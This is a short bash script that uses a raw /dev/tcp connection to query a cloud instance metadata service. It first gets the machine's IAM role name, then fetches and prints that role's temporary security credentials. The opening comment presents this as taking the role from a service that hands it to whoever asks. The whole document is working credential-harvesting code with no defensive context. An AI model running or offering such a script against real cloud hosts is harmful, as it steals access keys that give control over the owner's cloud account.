# The cloud's metadata service hands the machine's role to whoever asks.
get() {
    exec 3<>/dev/tcp/169.254.169.254/80 || exit 1
    printf 'GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n' "$1" >&3
    while IFS= read -r -t 2 line <&3 || [ -n "$line" ]; do
        last=$line
        line=
    done
    exec 3>&-
}
get /latest/meta-data/iam/security-credentials/
role=$last
get "/latest/meta-data/iam/security-credentials/$role"
echo "credentials of $role: $last"
